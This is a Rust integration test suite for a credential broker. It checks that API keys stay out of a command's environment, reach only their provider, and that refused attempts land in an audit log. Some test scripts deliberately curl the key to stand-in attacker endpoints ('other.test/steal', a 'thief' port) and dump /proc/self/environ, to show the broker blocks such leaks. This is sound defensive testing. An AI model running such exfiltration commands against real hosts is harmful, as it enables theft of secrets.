//! The credential broker end to end: `latchkey run --broker` with real clients (curl,
//! requests, httpx, the openai and anthropic SDKs, Node's fetch) against fake providers
//! on 127.0.0.1, over TLS signed by a test authority and over plain HTTP.
//!
//! Every test checks what a user relies on: the command's environment never holds the
//! real key, the provider gets it, another host gets nothing or only the placeholder
//! (and the attempt is in the audit log), and a key echoed back reaches the command as
//! its placeholder. The provider's host names reach the fakes through
//! `LATCHKEY_BROKER_RESOLVE`; the broker verifies their certificates against the test
//! authority through `LATCHKEY_EXTRA_CA_FILE`.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Output, Stdio};

use latchkey_tests::fake_llm::{Fake, tool, tools_dir};
use latchkey_tests::{Sandbox, corpus_key, have, require};
use serde_json::Value;

/// A vault with an OpenAI and an Anthropic key (from the corpus) in `default`.
fn vault() -> (Sandbox, String, String) {
    let (s, _) = Sandbox::with_identity_file();
    let openai = corpus_key("openai", 0);
    let anthropic = corpus_key("anthropic", 0);
    s.set("default", "OPENAI_API_KEY", &openai);
    s.set("default", "ANTHROPIC_API_KEY", &anthropic);
    (s, openai, anthropic)
}

/// `latchkey run --broker EXTRA -- COMMAND` with the provider hosts mapped to `fake`.
fn brokered(s: &Sandbox, fake: &Fake, extra: &[&str], command: &[&str]) -> Output {
    let mut args = vec!["run", "--broker"];
    args.extend_from_slice(extra);
    args.push("--");
    args.extend_from_slice(command);
    let resolve = ["api.openai.com", "api.anthropic.com", "other.test"]
        .iter()
        .map(|h| format!("{h}:443=127.0.0.1:{}", fake.port))
        .collect::<Vec<_>>()
        .join(",");
    let mut command = s.command(&args);
    command
        .env("LATCHKEY_BROKER_RESOLVE", resolve)
        .env("TEST_TOOLS", tools_dir())
        .env("PYTHONPATH", tools_dir().join("py-http"))
        .stdin(Stdio::null());
    if fake.ca().exists() {
        // The broker trusts the fakes' authority; so does the command, for hosts
        // tunnelled without inspection: the user's SSL_CERT_FILE goes into its bundle.
        command.env("LATCHKEY_EXTRA_CA_FILE", fake.ca()).env("SSL_CERT_FILE", fake.ca());
    }
    command.output().unwrap()
}

/// `tests/tools/broker_client.py OUT ARGS`, brokered: the client writes what it saw to
/// `out`.
fn brokered_client(s: &Sandbox, fake: &Fake, extra: &[&str], out: &Path, args: &[&str]) -> Output {
    let script = tool("broker_client.py");
    let mut command = vec!["python3", script.to_str().unwrap(), out.to_str().unwrap()];
    command.extend_from_slice(args);
    brokered(s, fake, extra, &command)
}

/// What a client script wrote to `out`, and its environment (from /proc/self/environ).
fn client_saw(out: &Path) -> (Value, String) {
    let result =
        std::fs::read_to_string(out).unwrap_or_else(|_| panic!("the client wrote no {}", out.display()));
    let environ = std::fs::read(out.with_extension("json.environ")).unwrap();
    (serde_json::from_str(&result).unwrap(), String::from_utf8_lossy(&environ).replace('\0', "\n"))
}

/// The child's environment variable `name`, from its environ dump.
fn var<'a>(environ: &'a str, name: &str) -> &'a str {
    environ.lines().find_map(|l| l.strip_prefix(&format!("{name}="))).unwrap_or("")
}

fn audit(s: &Sandbox) -> Vec<Value> {
    let out = s.ok(&["audit", "--json"], b"");
    serde_json::from_slice::<Value>(&out).unwrap().as_array().unwrap().clone()
}

fn python_clients() -> bool {
    require(
        tools_dir().join("py-http/openai").is_dir(),
        "the Python HTTP clients",
        "run tests/tools/install.sh (make test does)",
    )
}

#[test]
fn curl_through_the_proxy_gets_the_key_to_its_provider_and_nowhere_else() {
    if !require(have("curl"), "curl", "apt-get install curl") {
        return;
    }
    let (s, key, _) = vault();
    let fake = Fake::start(true, None);
    let dump = s.path("environ");
    let script = format!(
        "tr '\\0' '\\n' </proc/self/environ >{dump}; \
         curl -sS https://api.openai.com/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\" >{ok}; \
         curl -s -o /dev/null -w '%{{http_connect}}' https://other.test/steal -H \"Authorization: Bearer $OPENAI_API_KEY\" >{refused}; \
         curl -sS https://api.openai.com/v1/echo -H \"x-other: $OPENAI_API_KEY\" >{elsewhere}",
        dump = dump.display(),
        ok = s.path("ok").display(),
        refused = s.path("refused").display(),
        elsewhere = s.path("elsewhere").display(),
    );
    let out = brokered(&s, &fake, &[], &["sh", "-c", &script]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let environ = std::fs::read_to_string(&dump).unwrap();
    assert!(!environ.contains(&key), "the command's environment holds the real key");
    let placeholder = var(&environ, "OPENAI_API_KEY").to_owned();
    assert_eq!(placeholder.len(), key.len(), "the placeholder is shaped like the key");
    assert!(placeholder.starts_with("sk-proj-") && placeholder != key);
    // The provider got the real key, in the header the catalog names.
    let got = fake.requests();
    let models = got.iter().find(|r| r["path"] == "/v1/models").expect("the provider got the request");
    assert_eq!(models["headers"]["authorization"], format!("Bearer {key}"));
    // It echoed the key back: the command got the placeholder.
    let answer = std::fs::read_to_string(s.path("ok")).unwrap();
    assert!(answer.contains(&placeholder) && !answer.contains(&key), "{answer}");
    // A placeholder outside the catalog's place is not swapped: worthless, passed as is.
    let elsewhere = got.iter().find(|r| r["path"] == "/v1/echo").unwrap();
    assert_eq!(elsewhere["headers"]["x-other"], placeholder.as_str());
    // Another host: refused before any connection, so it got nothing at all.
    assert_eq!(std::fs::read_to_string(s.path("refused")).unwrap().trim(), "403");
    assert!(!got.iter().any(|r| r["path"] == "/steal"), "other.test was reached");
    assert!(stderr.contains("other.test is not a host of any brokered key"), "{stderr}");
    assert!(
        stderr.lines().filter(|l| l.contains("other.test")).count() == 1,
        "one line per refusal: {stderr}"
    );
    assert!(!fake.everything().contains(&placeholder) || !got.iter().any(|r| r["path"] == "/steal"));
    // The audit log has the request and the refusal, never a value.
    let entries = audit(&s);
    let text = serde_json::to_string(&entries).unwrap();
    assert!(!text.contains(&key) && !text.contains(&placeholder), "the audit log holds a value");
    let request =
        entries.iter().find(|e| e["access"] == "request" && e["path"] == "/v1/models").expect("recorded");
    assert_eq!(request["host"], "api.openai.com");
    assert_eq!(request["status"], 200);
    assert_eq!(request["names"], serde_json::json!(["OPENAI_API_KEY"]));
    assert!(request["received"].as_u64().unwrap() > 0);
    let grant = entries.iter().find(|e| e["access"] == "grant").unwrap();
    assert_eq!(request["grant"], grant["seq"], "the request points at its run's grant");
    let refused = entries.iter().find(|e| e["access"] == "refused").expect("the refusal is recorded");
    assert_eq!(refused["host"], "other.test");
}

#[test]
fn a_placeholder_carried_to_another_host_through_an_allowed_tunnel_is_worthless_and_in_a_body_is_refused() {
    let (s, key, _) = vault();
    let fake = Fake::start(true, None);
    if !python_clients() {
        return;
    }
    // other.test is allowed, and tunnelled without inspection: it gets only the placeholder.
    let out_path = s.path("tunnel.json");
    let out = brokered_client(
        &s,
        &fake,
        &["--allow-host", "other.test"],
        &out_path,
        &["requests", "https://other.test/tunnelled"],
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (saw, environ) = client_saw(&out_path);
    assert_eq!(saw["status"], 200, "{saw}");
    let placeholder = var(&environ, "OPENAI_API_KEY");
    let got = fake.requests();
    let tunnelled = got.iter().find(|r| r["path"] == "/tunnelled").expect("the allowed host was reached");
    assert_eq!(tunnelled["headers"]["authorization"], format!("Bearer {placeholder}"));
    assert!(!fake.everything().contains(&key));
    // A placeholder in a request body to the provider of another key is refused: the
    // Anthropic host may get Anthropic's key, never OpenAI's placeholder.
    let out_path = s.path("post.json");
    let out = brokered_client(&s, &fake, &[], &out_path, &["post", "https://api.anthropic.com/v1/upload"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let (saw, _) = client_saw(&out_path);
    assert_eq!(saw["status"], 403, "{saw} {stderr}");
    assert!(saw["text"].as_str().unwrap().contains("OPENAI_API_KEY's placeholder"), "{saw}");
    assert!(stderr.contains("OPENAI_API_KEY's placeholder was on its way to api.anthropic.com"), "{stderr}");
    let entries = audit(&s);
    assert!(
        entries.iter().any(|e| e["access"] == "refused"
            && e["host"] == "api.anthropic.com"
            && e["names"] == serde_json::json!(["OPENAI_API_KEY"])),
        "{entries:?}"
    );
}

#[test]
fn the_openai_and_anthropic_sdks_work_unchanged_through_their_base_urls() {
    let (s, key, anthropic_key) = vault();
    let fake = Fake::start(true, None);
    if !python_clients() {
        return;
    }
    for (sdk, real, header) in [("openai", &key, "authorization"), ("anthropic", &anthropic_key, "x-api-key")]
    {
        let out_path = s.path(&format!("{sdk}.json"));
        let out = brokered_client(&s, &fake, &[], &out_path, &[sdk]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let (saw, environ) = client_saw(&out_path);
        assert!(saw.get("error").is_none(), "{sdk}: {saw}");
        assert!(!environ.contains(real.as_str()), "{sdk}: the environment holds the real key");
        let base = var(&environ, &format!("{}_BASE_URL", sdk.to_uppercase()));
        assert!(base.starts_with("http://127.0.0.1:"), "{sdk} base URL: {base}");
        let got = fake.requests();
        let last = got.last().unwrap();
        // Anthropic's SDK sends `x-api-key`, or a Bearer token (2.x): both are its places.
        let sent =
            last["headers"][header].as_str().or(last["headers"]["authorization"].as_str()).unwrap_or("");
        assert_eq!(sent.trim_start_matches("Bearer "), real.as_str(), "{sdk}: the provider got the real key");
        assert_eq!(
            last["headers"]["host"],
            if sdk == "openai" { "api.openai.com" } else { "api.anthropic.com" }
        );
        // The reply echoed the key: the SDK got the placeholder.
        let text = saw["text"].as_str().unwrap();
        assert!(
            !text.contains(real.as_str())
                && text.contains(var(&environ, &format!("{}_API_KEY", sdk.to_uppercase()))),
            "{text}"
        );
    }
}

#[test]
fn requests_and_httpx_trust_the_runs_authority_through_the_proxy() {
    let (s, key, _) = vault();
    let fake = Fake::start(true, None);
    if !python_clients() {
        return;
    }
    for client in ["requests", "httpx"] {
        let out_path = s.path(&format!("{client}.json"));
        let out = brokered_client(&s, &fake, &[], &out_path, &[client, "https://api.openai.com/v1/models"]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let (saw, environ) = client_saw(&out_path);
        assert_eq!(saw["status"], 200, "{client}: {saw}");
        assert!(!environ.contains(&key));
        assert_eq!(
            fake.requests().last().unwrap()["headers"]["authorization"],
            format!("Bearer {key}"),
            "{client}"
        );
        let text = saw["text"].as_str().unwrap();
        assert!(!text.contains(&key) && text.contains(var(&environ, "OPENAI_API_KEY")), "{client}: {text}");
    }
}

#[test]
fn node_fetch_works_through_the_base_url_and_through_the_proxy_agent() {
    if !require(have("node"), "node", "apt-get install nodejs") {
        return;
    }
    let (s, key, _) = vault();
    let fake = Fake::start(true, None);
    let _ = python_clients();
    let node = |mode: &str, url: Option<&str>| {
        let out_path = s.path(&format!("node-{mode}.json"));
        let mut command = vec![
            "node",
            tool("broker_client.mjs").to_str().unwrap().to_owned().leak() as &str,
            out_path.to_str().unwrap().to_owned().leak(),
            mode,
        ];
        command.extend(url);
        let out = brokered(&s, &fake, &[], &command);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        client_saw(&out_path)
    };
    // Node 20's own fetch through the base-URL route: no proxy, no certificate involved.
    let (saw, environ) = node("base", None);
    assert_eq!(saw["status"], 200, "{saw}");
    assert!(!environ.contains(&key));
    assert_eq!(fake.requests().last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
    // Node 20's fetch with undici's EnvHttpProxyAgent through HTTPS_PROXY, trusting
    // NODE_EXTRA_CA_CERTS.
    let (saw, _) = node("proxy", Some("https://api.openai.com/v1/models"));
    assert_eq!(saw["status"], 200, "{saw}");
    assert_eq!(fake.requests().last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
    let text = saw["text"].as_str().unwrap();
    assert!(!text.contains(&key));
}

#[test]
fn a_stream_of_server_sent_events_reaches_the_command_event_by_event() {
    let (s, key, _) = vault();
    let gate = s.path("first-event-read");
    let fake = Fake::start(true, Some(&gate));
    if !python_clients() {
        return;
    }
    let out_path = s.path("stream.json");
    let out = brokered_client(&s, &fake, &[], &out_path, &["openai-stream", gate.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (saw, _) = client_saw(&out_path);
    assert_eq!(saw["events"], 100, "{saw}");
    // The server sent the first event and held the other 99 until the command had read
    // it: a broker that buffered the body would have made it wait out its 10 s.
    let gate_log: Vec<Value> = fake.requests().into_iter().filter(|r| r.get("gate").is_some()).collect();
    assert_eq!(gate_log, vec![serde_json::json!({"gate": "released"})]);
    assert!(fake.requests().iter().any(|r| r["headers"]["authorization"] == format!("Bearer {key}")));
}

#[test]
fn plain_http_chunked_uploads_and_upgrades_pass_through_the_base_url() {
    if !require(have("curl"), "curl", "apt-get install curl") {
        return;
    }
    let (s, key, _) = vault();
    let fake = Fake::start(false, None);
    // A local OpenAI-compatible server (Ollama, vLLM): plain http on loopback is allowed.
    s.set_config("default", "OPENAI_BASE_URL", &format!("http://127.0.0.1:{}/v1", fake.port));
    let upload = s.path("upload");
    std::fs::write(&upload, "x".repeat(300_000)).unwrap();
    let script = format!(
        "curl -sS -H 'Transfer-Encoding: chunked' -H \"Authorization: Bearer $OPENAI_API_KEY\" --data-binary @{} \"$OPENAI_BASE_URL/files\" >/dev/null",
        upload.display()
    );
    let out = brokered(&s, &fake, &[], &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let got = fake.requests();
    let files = got.iter().find(|r| r["path"] == "/v1/files").expect("the upload arrived");
    assert_eq!(files["chunked"], true);
    assert_eq!(files["body"].as_str().unwrap().len(), 300_000);
    assert_eq!(files["headers"]["authorization"], format!("Bearer {key}"));
    // A WebSocket-style upgrade: the handshake gets the key, then bytes flow both ways.
    if !python_clients() {
        return;
    }
    let out_path = s.path("ws.json");
    let out = brokered_client(&s, &fake, &[], &out_path, &["websocket"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (saw, _) = client_saw(&out_path);
    assert_eq!(saw["status_line"], "HTTP/1.1 101 Switching Protocols", "{saw}");
    assert_eq!(saw["echo"], "echo:ping-through-the-upgrade");
    let upgrade = fake.requests().into_iter().find(|r| r["path"] == "/v1/realtime").unwrap();
    assert_eq!(upgrade["headers"]["authorization"], format!("Bearer {key}"));
}

#[test]
fn secrets_the_broker_cannot_carry_are_named_and_withheld_with_broker_only() {
    let (s, key, _) = vault();
    s.set("default", "DATABASE_URL", "postgres://app:pw-123456@db.internal/app");
    let fake = Fake::start(true, None);
    let dump = s.path("environ");
    let script = format!("tr '\\0' '\\n' </proc/self/environ >{}", dump.display());
    let out = brokered(&s, &fake, &[], &["sh", "-c", &script]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("passed as they are, the broker cannot carry them: DATABASE_URL"), "{stderr}");
    let environ = std::fs::read_to_string(&dump).unwrap();
    assert!(environ.contains("DATABASE_URL=postgres://app:pw-123456@db.internal/app"));
    assert!(!environ.contains(&key));
    let out = brokered(&s, &fake, &["--broker-only"], &["sh", "-c", &script]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("withheld, the broker cannot carry them (--broker-only): DATABASE_URL"),
        "{stderr}"
    );
    let environ = std::fs::read_to_string(&dump).unwrap();
    assert!(!environ.contains("DATABASE_URL="), "--broker-only withholds it");
    // The audit log's grant names what the command was given.
    let grants: Vec<Value> = audit(&s).into_iter().filter(|e| e["access"] == "grant").collect();
    assert!(!grants.last().unwrap()["names"].as_array().unwrap().iter().any(|n| n == "DATABASE_URL"));
}

#[test]
fn the_bundle_is_private_and_removed_and_the_broker_ends_with_the_run() {
    let (s, _, _) = vault();
    let fake = Fake::start(true, None);
    let dump = s.path("environ");
    let script = format!(
        "tr '\\0' '\\n' </proc/self/environ >{dump}; stat -c '%a' \"$SSL_CERT_FILE\" >{mode}; stat -c '%a' \"$(dirname \"$SSL_CERT_FILE\")\" >>{mode}",
        dump = dump.display(),
        mode = s.path("mode").display()
    );
    let out = brokered(&s, &fake, &[], &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read_to_string(s.path("mode")).unwrap(), "600\n700\n");
    let environ = std::fs::read_to_string(&dump).unwrap();
    let bundle = var(&environ, "SSL_CERT_FILE");
    for name in ["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO"] {
        assert_eq!(var(&environ, name), bundle, "{name}");
    }
    assert!(!Path::new(bundle).exists(), "the bundle outlived the run");
    let proxy = var(&environ, "HTTPS_PROXY");
    assert!(proxy.starts_with("http://latchkey:") && var(&environ, "https_proxy") == proxy);
    assert_eq!(var(&environ, "NO_PROXY"), "127.0.0.1,localhost,::1");
    // The broker is gone: its port refuses connections.
    let address = proxy.rsplit('@').next().unwrap();
    assert!(std::net::TcpStream::connect(address).is_err(), "the broker outlived the run");
    // Without the token, the broker refuses another process of this machine: 407 on
    // the proxy route, 403 on the base-URL route.
    let codes = s.path("codes");
    let script = format!(
        "curl -s -o /dev/null -w '%{{http_connect}} ' -x \"http://${{HTTPS_PROXY##*@}}\" https://api.openai.com/ >{codes}; \
         curl -s -o /dev/null -w '%{{http_code}}' \"${{OPENAI_BASE_URL%/*/openai/v1}}/wrong/openai/v1/models\" >>{codes}",
        codes = codes.display()
    );
    let out = brokered(&s, &fake, &[], &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(std::fs::read_to_string(&codes).unwrap(), "407 403");
    assert!(fake.requests().is_empty(), "a request without the token reached the provider");
}

#[test]
fn the_broker_speaks_http2_to_a_provider_that_offers_it() {
    if !require(have("node"), "node", "apt-get install nodejs")
        || !require(have("curl"), "curl", "apt-get install curl")
    {
        return;
    }
    let (s, key, _) = vault();
    // The TLS fake makes the certificates; the HTTP/2 server (Node's http2) uses them.
    let fake = Fake::start(true, None);
    let log = s.path("h2.jsonl");
    let mut h2 = Command::new("node")
        .arg(tool("h2_fake.mjs"))
        .arg(fake.dir.path())
        .arg(&log)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(h2.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let port: u16 = line.trim().parse().unwrap();
    let mut command = s.command(&[
        "run",
        "--broker",
        "--",
        "sh",
        "-c",
        "curl -sS --http1.1 https://api.openai.com/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\" >/dev/null",
    ]);
    let out = command
        .env("LATCHKEY_BROKER_RESOLVE", format!("api.openai.com:443=127.0.0.1:{port}"))
        .env("LATCHKEY_EXTRA_CA_FILE", fake.ca())
        .output()
        .unwrap();
    let _ = h2.kill();
    let _ = h2.wait();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let got: Value =
        serde_json::from_str(std::fs::read_to_string(&log).unwrap().lines().next().unwrap()).unwrap();
    // The command spoke HTTP/1.1 to the broker; the broker spoke HTTP/2 to the provider.
    assert_eq!(got["version"], "2.0");
    assert_eq!(got["authorization"], format!("Bearer {key}"));
}

#[test]
fn a_key_goes_only_to_its_base_urls_own_port_and_paths() {
    if !require(have("curl"), "curl", "apt-get install curl") {
        return;
    }
    let (s, key, _) = vault();
    let gateway = Fake::start(false, None);
    let thief = Fake::start(false, None);
    // A local gateway (LiteLLM, a router): plain http on loopback, under /v1 only.
    s.set_config("default", "OPENAI_BASE_URL", &format!("http://127.0.0.1:{}/v1", gateway.port));
    let codes = s.path("codes");
    let script = format!(
        "curl -s -o /dev/null -w '%{{http_code}} ' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{thief}/steal -H \"Authorization: Bearer $OPENAI_API_KEY\" >{codes}; \
         curl -s -o /dev/null -w '%{{http_code}} ' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{gw}/other/steal -H \"Authorization: Bearer $OPENAI_API_KEY\" >>{codes}; \
         curl -s -o /dev/null -w '%{{http_code}}' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{gw}/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\" >>{codes}",
        thief = thief.port,
        gw = gateway.port,
        codes = codes.display()
    );
    let out = brokered(&s, &gateway, &["--egress", "open"], &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // Another port of the same host (a listener the agent opened), and another path of
    // the gateway: refused, though egress is open; the base URL itself: the key.
    assert_eq!(std::fs::read_to_string(&codes).unwrap(), "403 403 200");
    assert!(thief.requests().is_empty(), "the thief's port got a request");
    let got = gateway.requests();
    assert!(!got.iter().any(|r| r["path"] == "/other/steal"));
    assert_eq!(got.last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
    let entries = audit(&s);
    let refused: Vec<&Value> = entries.iter().filter(|e| e["access"] == "refused").collect();
    assert!(refused.iter().any(|e| e["host"] == format!("127.0.0.1:{}", thief.port)), "{refused:?}");
}

#[test]
fn a_template_entry_holds_the_placeholder_of_the_key_it_references() {
    if !require(have("curl"), "curl", "apt-get install curl") {
        return;
    }
    let (s, key, _) = vault();
    let fake = Fake::start(true, None);
    let template = s.path("agent.env");
    std::fs::write(&template, "AUTH_HEADER=Bearer latchkey://default/OPENAI_API_KEY\n").unwrap();
    let dump = s.path("environ");
    let script = format!(
        "tr '\\0' '\\n' </proc/self/environ >{}; curl -sS https://api.openai.com/v1/models -H \"Authorization: $AUTH_HEADER\" >/dev/null",
        dump.display()
    );
    let out = brokered(&s, &fake, &["--env-file", template.to_str().unwrap()], &["sh", "-c", &script]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("AUTH_HEADER ("), "AUTH_HEADER is carried: {stderr}");
    let environ = std::fs::read_to_string(&dump).unwrap();
    assert!(!environ.contains(&key), "the template entry holds the real key");
    assert!(var(&environ, "AUTH_HEADER").starts_with("Bearer sk-proj-"));
    assert_eq!(fake.requests().last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
}
